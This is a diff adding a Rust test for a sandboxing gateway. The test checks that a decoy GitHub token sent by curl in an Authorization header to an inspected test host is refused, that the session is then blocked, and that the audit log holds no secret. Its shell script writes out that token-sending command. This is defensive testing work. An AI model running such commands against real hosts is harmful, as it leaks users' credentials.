@@ -254,3 +254,93 @@ echo "value $AWS_SECRET_ACCESS_KEY"
     let all = std::fs::read_to_string(&audit).unwrap();
     assert!(!all.contains(&value), "the decoy's value is in no record");
 }
+
+/// The proxy's route to an inspected host: the GitHub decoy in the `Authorization` header of
+/// a request over TLS (ended by the proxy with the session's CA) is refused, and the next,
+/// ordinary request to the same host is refused by the kernel. The server and its test CA
+/// are `egress_l7`'s.
+#[test]
+fn canary_to_an_inspected_host_locks_the_session_down() {
+    use crate::egress_l7::{
+        PORT as L7_PORT, SERVER_IP as L7_IP, certificates, server as l7_server,
+    };
+    const L7_DNS: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 73);
+    fn l7_known(name: &str) -> Option<Ipv4Addr> {
+        (name == "git.l7.test").then_some(L7_IP)
+    }
+    let _ = tier();
+    let _addrs: Vec<ExtraAddress> = [IpAddr::V4(L7_IP), IpAddr::V4(L7_DNS)]
+        .into_iter()
+        .map(ExtraAddress::add)
+        .collect();
+    let dir = Scratch::new("canary-l7");
+    dns_server(L7_DNS, l7_known);
+    let ca = certificates(&dir);
+    let _server = l7_server(&dir);
+    let curl = format!(
+        "curl -sS --max-time 20 --resolve git.l7.test:{L7_PORT}:{L7_IP} https://git.l7.test:{L7_PORT}"
+    );
+    let sh = format!(
+        r#"echo "ok $({curl}/echo/a 2>&1 | head -n1)"
+echo "canary $({curl}/echo/k -H "Authorization: Bearer $GITHUB_TOKEN" 2>&1 | head -n1)"
+echo "after $({curl}/echo/b 2>&1 | head -n1)"
+echo "value $GITHUB_TOKEN"
+"#
+    );
+
+    // Bare: the token reaches the server.
+    let bare = Command::new("sh")
+        .args(["-c", &sh])
+        .env("GITHUB_TOKEN", FAKE_TOKEN)
+        .env("CURL_CA_BUNDLE", &ca)
+        .output()
+        .unwrap();
+    let b = escape_outcomes(&stdout(&bare));
+    assert_eq!(
+        b["canary"],
+        format!("GET /echo/k auth=Bearer {FAKE_TOKEN} body=0"),
+        "{b:?}"
+    );
+    assert_eq!(b["after"], "GET /echo/b auth=None body=0", "{b:?}");
+
+    let policy = json!({"version": 1, "kernel": "best_effort",
+        "network": {"upstream_ca": ca, "egress": [
+            {"host": "git.l7.test", "port": L7_PORT, "inspect": true},
+            {"cidr": format!("{L7_DNS}/32"), "port": 53},
+            {"cidr": "127.0.0.0/8"}]},
+        "canaries": {"env": true}});
+    let policy = write_policy(&dir, policy);
+    let audit = dir.path("audit.jsonl");
+    let out = gatewayd_run()
+        .arg("--policy")
+        .arg(&policy)
+        .arg("--audit")
+        .arg(&audit)
+        .args(["--", "sh", "-c", &sh])
+        .env("GATEWAYD_DNS_SERVER", format!("{L7_DNS}:53"))
+        .env_remove("AWS_ACCESS_KEY_ID")
+        .env_remove("AWS_SECRET_ACCESS_KEY")
+        .env_remove("GITHUB_TOKEN")
+        .output()
+        .unwrap();
+    let text = format!("{}\n{}", stdout(&out), String::from_utf8_lossy(&out.stderr));
+    let g = escape_outcomes(&stdout(&out));
+    assert_eq!(
+        g["ok"], "GET /echo/a auth=None body=0",
+        "allowed before: {text}"
+    );
+    assert!(
+        g["canary"].starts_with("gatewayd refused") && g["canary"].contains("env:GITHUB_TOKEN"),
+        "{text}"
+    );
+    assert!(
+        g["after"].starts_with("curl: ("),
+        "an allowed request after the canary is refused: {text}"
+    );
+    let value = g["value"].clone();
+    assert!(value.starts_with("ghp_"), "{text}");
+    let r = the_canary_record(&audit, "env:GITHUB_TOKEN", "egress_proxy_inspected");
+    assert_eq!(r["detail"]["host"], "git.l7.test", "{r:#}");
+    let all = std::fs::read_to_string(&audit).unwrap();
+    assert!(!all.contains(&value), "the decoy's value is in no record");
+}
